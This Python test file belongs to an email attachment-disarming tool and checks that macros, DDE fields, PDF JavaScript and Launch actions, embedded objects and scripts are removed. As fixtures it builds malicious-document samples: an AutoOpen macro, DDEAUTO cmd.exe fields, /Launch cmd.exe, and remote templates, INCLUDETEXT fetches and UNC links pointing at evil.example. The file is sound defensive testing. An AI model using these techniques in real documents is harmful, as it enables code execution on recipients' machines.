"""Documents without what they would run: what goes, what stays, what is not sound to touch."""

import io
import re
import sys
import zipfile
from collections.abc import Mapping
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from pathlib import Path

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailward.protect.disarm import process
from mailward.protect.disarm.documents import ACTIVE, disarm
from mailward.protect.disarm.message import disarm_message
from mailward.protect.disarm.note import with_note
from mailward.protect.disarm.process import disarm_apart
from mailward.protect.disarm.result import UnsoundError
from mailward.scan.budget import Budget
from mailward.scan.kinds import kinds
from mailward.scan.part import Part, Role
from mailward.scan.unpack import parts
from mailward.settings.scan import ScanSettings
from mailward.testing import Attachment, forwarded, inert_executable, message, zipped
from tests.scan.documents.build import compound_file, ole_native, vba_project

SOURCE = b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n'
PROJECT = compound_file({**vba_project({"M": SOURCE}), "PROJECT": b"ID={x}"})
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    "</Types>"
)


def relations(**targets: str) -> str:
    """``kind__id=target``, external if the target has a colon."""
    lines = ""
    for key, target in targets.items():
        kind, id_ = key.split("__")
        mode = ' TargetMode="External"' if ":" in target else ""
        lines += f'<Relationship Id="{id_}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{lines}</Relationships>"
    )


def document(body: str = "", others: Mapping[str, bytes | str] | None = None) -> bytes:
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES,
        "word/document.xml": f'<w:document xmlns:w="{WORD}" xmlns:r="{RELATIONS}" '
        f'xmlns:o="urn:o"><w:body><w:p><w:r><w:t>Figures</w:t></w:r>{body}</w:p></w:body>'
        "</w:document>",
        **(others or {}),
    }
    return packed(members)


def packed(members: Mapping[str, bytes | str]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def active_parts(data: bytes) -> list[str]:
    """What a scan still finds to run in it."""
    seen = parts(data, role=Role.ATTACHMENT, name="a", budget=Budget(ScanSettings()))
    return [p.path for p in seen if isinstance(p, Part) and not ACTIVE.isdisjoint(kinds(p))]


def pdf(change: str) -> bytes:
    """One page with a text, and what ``change`` names."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        page = made.add_blank_page()
        script = pikepdf.Dictionary(
            S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("app.alert(1)")
        )
        match change:
            case "script":
                made.Root["/OpenAction"] = made.make_indirect(script)
            case "names":
                tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
                made.Root["/Names"] = pikepdf.Dictionary(JavaScript=tree)
            case "launch":
                launch = pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=pikepdf.String("cmd.exe"))
                page["/AA"] = pikepdf.Dictionary(O=launch)
            case "file":
                made.attachments["a.exe"] = inert_executable()
            case "link":
                link = pikepdf.Dictionary(
                    Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"),
                    Rect=pikepdf.Array([0, 0, 9, 9]),
                    A=pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=pikepdf.String("cmd.exe")),
                )  # fmt: skip
                page["/Annots"] = pikepdf.Array([made.make_indirect(link)])
            case "file-link":
                link = pikepdf.Dictionary(
                    Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"),
                    Rect=pikepdf.Array([0, 0, 9, 9]),
                    A=pikepdf.Dictionary(
                        S=pikepdf.Name("/URI"), URI=pikepdf.String("file:///c:/cmd.exe")
                    ),
                )  # fmt: skip
                page["/Annots"] = pikepdf.Array([link])
            case "encrypted":
                made.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
                return out.getvalue()
        made.save(out, compress_streams=False)
    return out.getvalue()


def test_macros_leave_a_document_and_its_text_stays() -> None:
    before = document(others={
        "word/vbaProject.bin": PROJECT,
        "word/vbaData.xml": "<a/>",
        "word/_rels/document.xml.rels": relations(
            vbaProject__r1="vbaProject.bin", styles__r2="styles.xml"
        ),
        "word/_rels/vbaProject.bin.rels": relations(wordVbaData__r1="vbaData.xml"),
        "word/styles.xml": "<a/>",
    })  # fmt: skip
    assert active_parts(before)

    result = disarm(before, "a.docm")

    assert result is not None
    assert result.removed == ("macros",)
    members = unpacked(result.data)
    assert set(members) == {
        "[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels",
        "word/styles.xml",
    }  # fmt: skip
    assert b"Figures" in members["word/document.xml"]
    assert b"vbaProject" not in members["[Content_Types].xml"]
    assert b"vbaProject" not in members["word/_rels/document.xml.rels"]
    assert b"styles.xml" in members["word/_rels/document.xml.rels"]
    assert active_parts(result.data) == []
    assert disarm(result.data, "a.docm") is None


def test_a_macro_project_by_another_name_goes_too() -> None:
    before = document(others={
        "word/picture.png": PROJECT,
        "word/_rels/document.xml.rels": relations(vbaProject__r1="picture.png"),
    })  # fmt: skip

    result = disarm(before)

    assert result is not None
    assert "word/picture.png" not in unpacked(result.data)


def test_embedded_objects_templates_and_what_refers_to_them_go() -> None:
    body = (
        '<w:object><o:OLEObject r:id="r1"/></w:object><w:t>after</w:t>'
        '<w:hyperlink r:id="r4"><w:t>web</w:t></w:hyperlink>'
        '<w:hyperlink r:id="r5"><w:t>program</w:t></w:hyperlink>'
    )
    before = document(body, {
        "word/embeddings/oleObject1.bin": compound_file({"\1Ole10Native": b"x" * 99}),
        "word/_rels/document.xml.rels": relations(
            oleObject__r1="embeddings/oleObject1.bin",
            hyperlink__r4="https://www.example.org/",
            hyperlink__r5="file:///c:/windows/system32/calc.exe",
        ),
        "word/_rels/settings.xml.rels": relations(attachedTemplate__r1="http://evil.example/t.dotm"),
        "word/settings.xml": f'<w:settings xmlns:w="{WORD}" xmlns:r="{RELATIONS}">'
        '<w:attachedTemplate r:id="r1"/></w:settings>',
    })  # fmt: skip

    result = disarm(before)

    assert result is not None
    members = unpacked(result.data)
    text = members["word/document.xml"]
    assert set(result.removed) == {
        "embedded objects", "links that open files or programs", "a template from elsewhere"
    }  # fmt: skip
    assert "word/embeddings/oleObject1.bin" not in members
    assert b"OLEObject" not in text
    assert b"after" in text
    assert b"web" in text
    assert b"attachedTemplate" not in members["word/settings.xml"]
    assert b"evil.example" not in result.data + members["word/_rels/settings.xml.rels"]


@pytest.mark.parametrize(
    "field",
    [
        "<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" '/>",
        "<w:fldChar w:fldCharType='begin'/><w:instrText>DD</w:instrText>"
        "<w:instrText>E cmd</w:instrText><w:fldChar w:fldCharType='end'/>",
        "<w:fldChar w:fldCharType='begin'/><w:fldChar w:fldCharType='begin'/><w:instrText>QUOTE 68 "
        "68 69</w:instrText><w:fldChar w:fldCharType='end'/><w:instrText> </w:instrText>"
        "<w:fldChar w:fldCharType='end'/>",
        "<w:instrText>INCLUDETEXT http://evil.example/</w:instrText>",
    ],
)
def test_fields_that_run_or_fetch_something_are_emptied(field: str) -> None:
    page = "<w:fldSimple w:instr=' PAGE '/>"

    result = disarm(document(page + field))

    assert result is not None
    text = unpacked(result.data)["word/document.xml"].decode()
    assert " PAGE " in text
    assert not re.search(r"DD|cmd|QUOTE|evil", text)


def test_a_document_in_a_document_is_disarmed_itself() -> None:
    inner = document(others={"word/vbaProject.bin": PROJECT})
    before = document(others={
        "word/embeddings/a.docm": inner,
        "word/_rels/document.xml.rels": relations(package__r1="embeddings/a.docm"),
    })  # fmt: skip

    result = disarm(before)

    assert result is not None
    assert result.removed == ("macros",)
    assert (
        b"Figures" in unpacked(unpacked(result.data)["word/embeddings/a.docm"])["word/document.xml"]
    )


def test_what_has_nothing_active_is_left_alone() -> None:
    assert disarm(document("<w:fldSimple w:instr=' PAGE '/>"), "a.docx") is None
    assert disarm(pdf("nothing"), "a.pdf") is None
    assert disarm(compound_file({"WordDocument": b"x" * 50}), "a.doc") is None
    assert disarm(b"{\\rtf1 {\\b text}}", "a.rtf") is None
    assert (
        disarm(b"<html><style>.a{scroll-behavior:smooth}</style><p>profile: x</p></html>") is None
    )
    assert disarm(b"plain <text> with javascript: in it", "a.txt") is None
    assert disarm(b"<svg><circle/></svg>", "a.svg") is None


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (document(others={"xl/macrosheets/sheet1.xml": "<a/>"}), "Excel 4.0"),
        (
            document(others={"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
            "links to programs",
        ),
        (document(others={"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), "entities"),
        (document(others={"word/a.xml": "<a>"}), "damaged XML"),
        (document()[:-40], "damaged"),
        (compound_file({"PowerPoint Document": b"\x10\0\x11\x10" + bytes(60)}), "PowerPoint"),
        (compound_file({"WordDocument": b"text \x13 DDEAUTO cmd"}), "DDE"),
        (compound_file({"Workbook": b"\x85\0\x0a\0" + b"\0\0\0\0\0\x01abcd"}), "Excel 4.0"),
        (compound_file({"Workbook": b"\xae\x01\x0a\0" + b"\0\0\5\0\0cmd\x03x"}), "programs"),
        (compound_file({"EncryptedPackage": b"x" * 50}), "encrypted"),
        (pdf("encrypted"), "encrypted"),
        (b"%PDF-1.4\nnothing of a PDF\n", "damaged"),
        (b"{\\rtf1 {\\object {\\objdata 0105", "too early"),
        (b"{\\rtf1 {\\object\\bin999999 x}}", "impossible size"),
        (b"{\\rtf1 \\bin00000000000000000001 x}", "impossible size"),
        (b"{\\rtf1 \\objdata 0105}", "itself embedded objects"),
        (b"\xff\xfe" + "<html><script>x</script></html>".encode("utf-16-le"), "UTF-16"),
        (b"<svg><script>x</script></svg>", "with scripts"),
        (packed({"META-INF/manifest.xml": "", "Basic/script-lc.xml": ""}), "OpenDocument"),
    ],
)
def test_what_cannot_be_disarmed_for_sure_is_said_to_be_so(data: bytes, why: str) -> None:
    with pytest.raises(UnsoundError, match=why):
        disarm(data, "a")


def test_macros_and_objects_of_an_old_document_become_zeros_where_they_are() -> None:
    before = compound_file({
        "WordDocument": b"the text " * 600,
        **vba_project({"M": SOURCE, "Large": SOURCE * 100}),
        "Macros/PROJECT": b"ID={x}",
        "ObjectPool/_1/\1Ole10Native": ole_native("a.exe", inert_executable()),
        "small": b"kept",
    })  # fmt: skip
    assert len(active_parts(before)) >= 2

    result = disarm(before, "a.doc")

    assert result is not None
    assert result.removed == ("macros", "embedded objects")
    assert len(result.data) == len(before)
    assert b"the text the text" in result.data
    assert b"kept" in result.data
    assert b"AutoOpen" not in result.data
    assert active_parts(result.data) == []
    assert disarm(result.data, "a.doc") is None


def test_workbooks_on_other_computers_are_not_asked_and_formulas_keep_what_they_mean() -> None:
    link = f'<externalLink xmlns:r="{RELATIONS}"><externalBook r:id="r1"/></externalLink>'
    before = document(others={
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
            externalLinkPath__r1="file:///\\\\evil.example\\share\\a.xlsx"
        ),
    })  # fmt: skip

    result = disarm(before)

    assert result is not None
    members = unpacked(result.data)
    assert b'id="r1"' in members["xl/externalLinks/externalLink1.xml"]
    assert b"evil" not in members["xl/externalLinks/_rels/externalLink1.xml.rels"]


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("a.shtm", ""), ("a", "text/html"), ("a.htm. ", ""), ("", "application/xhtml+xml")],
)
def test_pages_are_known_however_they_are_called(name: str, content_type: str) -> None:
    page = b"<html><meta http-equiv='&#114;efresh' content='0;url=https://evil.example'></html>"

    result = disarm(page, name, content_type)

    assert result is not None
    assert b"evil" not in result.data


@pytest.mark.parametrize("name", ["a.xml", "a.svg", "a.mht"])
def test_xml_with_scripts_is_not_sound(name: str) -> None:
    page = b'<?xml version="1.0"?><a><script xmlns="http://www.w3.org/1999/xhtml">x</script></a>'

    with pytest.raises(UnsoundError, match="with scripts"):
        disarm(page, name)
    assert disarm(page.replace(b"script", b"strong"), name) is None


@pytest.mark.parametrize("change", ["file-link", "script", "names", "launch", "file", "link"])
def test_a_pdf_loses_what_it_would_run_and_keeps_its_page(change: str) -> None:
    result = disarm(pdf(change), "a.pdf")

    assert result is not None
    with pikepdf.open(io.BytesIO(result.data)) as left:
        assert len(left.pages) == 1
        whole = b"".join(repr(thing).encode() for thing in left.objects)
    assert not re.search(rb"JavaScript|app\.alert|Launch|cmd\.exe|EmbeddedFile", whole)
    assert active_parts(result.data) == []
    assert disarm(result.data) is None


def test_a_page_loses_scripts_handlers_forms_and_packed_files() -> None:
    page = (
        "<html><head><title>t</title><script>evil()</script></head><body onload='evil()'>"
        "<p style='color:red'>Grüße <b>Ann</b></p><img src='cid:logo'>"
        "<img src='data:image/png;base64,iVBORw0K'><a href='https://www.example.org/'>web</a>"
        "<a href='java&#x0A;script:evil()'>x</a><form action='https://evil.example'><input></form>"
        "<iframe src='https://evil.example'></iframe>"
        "<a download='a.exe' href='data:application/octet-stream;base64,TVo='>y</a></body></html>"
    )

    result = disarm(page.encode("latin-1"), content_type="text/html", charset="iso-8859-1")

    assert result is not None
    left = result.data.decode("ascii")
    assert "evil" not in left
    assert "TVo=" not in left
    assert "Gr&#252;&#223;e <b>Ann</b>" in left
    assert "color:red" in left.replace(" ", "")
    for kept in ("cid:logo", "iVBORw0K", "https://www.example.org/"):
        assert kept in left
    assert disarm(result.data, content_type="text/html") is None


def test_a_picture_takes_the_place_of_an_object_in_rtf() -> None:
    rtf = (
        b"{\\rtf1 before {\\object\\objemb{\\*\\objdata 0105000002}{\\result {\\pict abc}}} after "
        b"{\\field{\\*\\fldinst DDEAUTO cmd}{\\fldrslt shown}}{\\*\\template http://evil.example}}"
    )

    result = disarm(rtf)

    assert result is not None
    assert set(result.removed) == {
        "embedded objects", "fields that fetch or run something", "a template from elsewhere"
    }  # fmt: skip
    assert b"{\\pict abc}" in result.data
    assert b"shown" in result.data
    assert b"before" in result.data
    assert not re.search(rb"objdata|DDE|evil", result.data)


@pytest.mark.parametrize(
    "instruction",
    [
        b"\\u68 P\\u68 A\\u69 G E cmd",
        b"\\'44\\'44\\'45 cmd",
        b"\\bin4 PAGEDDE cmd",
        b"{\\b D}{\\i DE} cmd",
        b"",
    ],
)
def test_instructions_that_are_written_in_odd_ways_go(instruction: bytes) -> None:
    result = disarm(b"{\\rtf1 {\\field{\\*\\fldinst " + instruction + b"}{\\fldrslt shown}}}")

    assert result is not None
    assert b"cmd" not in result.data
    assert b"shown" in result.data


@pytest.mark.parametrize(
    "inside",
    [
        Attachment("a.pdf", pdf("script")),
        Attachment("b.docm", document(others={"word/vbaProject.bin": PROJECT})),
        Attachment("c.html", b"<html><script>x</script></html>"),
        Attachment("d.zip", zipped(Attachment("e.rtf", b"{\\rtf1 {\\object {\\objdata 01}}}"))),
        Attachment("f.pdf", pdf("encrypted")),
    ],
)
def test_what_holds_an_active_document_is_not_sound(inside: Attachment) -> None:
    for mail in (
        message(Attachment("a.zip", zipped(Attachment("readme.txt", b"x"), inside))),
        message(Attachment("a.eml", message(inside))),
        forwarded(message(inside)),
    ):
        result = disarm_message(mail)
        assert result is not None
        assert len(result.unsound) == 1
        assert not result.removed


def test_archives_and_messages_with_nothing_active_are_left_alone() -> None:
    inside = (Attachment("a.pdf", pdf("nothing")), Attachment("b.docx", document()))
    mail = message(Attachment("a.zip", zipped(*inside)), Attachment("b.eml", message(*inside)))

    result = disarm_message(mail)

    assert result is not None
    assert (result.removed, result.unsound, result.content) == ({}, {}, mail)


def parsed(content: bytes) -> EmailMessage:
    mail = BytesParser(policy=policy.SMTP).parsebytes(content)
    assert isinstance(mail, EmailMessage)
    assert not mail.defects
    return mail


def test_parts_are_replaced_where_they_stand_and_the_rest_stays_byte_for_byte() -> None:
    mail = message(
        Attachment("a.pdf", pdf("script")),
        Attachment("kept.bin", bytes(range(256))),
        Attachment("b.xlsm", document(others={"xl/macrosheets/sheet1.xml": "<a/>"})),
    )

    result = disarm_message(mail)

    assert result is not None
    assert list(result.removed) == ["2"]
    assert list(result.unsound) == ["4"]
    before, after = list(parsed(mail).iter_parts()), list(parsed(result.content).iter_parts())
    assert after[1].get_filename() == "a.pdf"
    assert after[1].get_content().startswith(b"%PDF-")
    for number in (0, 2, 3):
        assert after[number].as_bytes() == before[number].as_bytes()


def test_a_message_that_is_one_page() -> None:
    mail = (
        b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html;\r\n"
        b" charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        b"<p>hello</p><script>evil(=\r\n1)</script>\r\n"
    )

    result = disarm_message(mail)

    assert result is not None
    assert "hello" in parsed(result.content).get_content()
    assert "evil" not in parsed(result.content).get_content()
    noted, above = with_note(result.content, "the note")
    (page, note) = parsed(noted).iter_parts()
    assert (page.get_content_type(), note.get_content(), above) == ("text/html", "the note", "")
    assert parsed(noted)["Subject"] == "x"


def test_a_note_becomes_the_last_part_of_what_is_mixed_and_wraps_anything_else() -> None:
    mixed = message(Attachment("a.bin", b"x"))
    related = mixed.replace(b"multipart/mixed", b"multipart/related")

    noted, above = with_note(mixed, "the note")
    wrapped, below = with_note(related, "the note")

    assert [p.get_content_type() for p in parsed(noted).iter_parts()][2:] == ["text/plain"]
    assert noted.startswith(mixed[:200])
    inner, note = parsed(wrapped).iter_parts()
    assert (inner.get_content_type(), note.get_content()) == ("multipart/related", "the note")
    assert (above, below) == ("", "1.")


async def test_the_same_comes_out_of_the_confined_process() -> None:
    mail = message(Attachment("a.pdf", pdf("launch")), Attachment("b.rtf", b"{\\rtf1 {\\object"))

    apart, here = await disarm_apart(mail), disarm_message(mail)

    assert apart is not None
    assert here is not None
    assert (apart.removed, apart.unsound) == (here.removed, here.unsound)
    assert b"/Launch" not in apart.content


@pytest.mark.parametrize(
    "does",
    ["exit 3", "kill -9 $$", "exec sleep 600", "echo null; exec yes", "echo '{}'", "echo no JSON"],
)
async def test_a_process_that_dies_or_hangs_or_lies_costs_that_message_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, does: str
) -> None:
    program = tmp_path / "python"
    program.write_text(f"#!/bin/sh\n{does}\n")
    program.chmod(0o755)
    with monkeypatch.context() as instead:
        instead.setattr(sys, "executable", str(program))
        instead.setattr(process, "TIMEOUT_S", 2)
        assert await disarm_apart(message(Attachment("a.pdf", pdf("launch")))) is None

    assert await disarm_apart(message(Attachment("a.pdf", pdf("launch")))) is not None


async def test_a_message_that_is_read_in_several_ways_is_not_touched() -> None:
    mail = b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\n<script>x</script>\r\n"

    assert await disarm_apart(mail) is None


@settings(suppress_health_check=[HealthCheck.too_slow], max_examples=60, deadline=None)
@given(
    which=st.sampled_from(["docx", "doc", "pdf", "rtf", "html"]),
    at=st.integers(min_value=0, max_value=4000),
    bytes_=st.binary(min_size=1, max_size=8),
    cut=st.booleans(),
)
def test_damaged_documents_end_in_an_answer(which: str, at: int, bytes_: bytes, cut: bool) -> None:
    whole = {
        "docx": document(others={"word/vbaProject.bin": PROJECT}),
        "doc": PROJECT,
        "pdf": pdf("script"),
        "rtf": b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105000002}{\\result {\\pict abc}}} after}",
        "html": b"<html><body onload=evil()><script>x</script></body></html>",
    }[which]
    at %= len(whole)
    damaged = whole[:at] if cut else whole[:at] + bytes_ + whole[at + len(bytes_) :]

    try:
        result = disarm(damaged, f"a.{which}")
    except UnsoundError:
        return
    if result is not None:
        assert result.removed
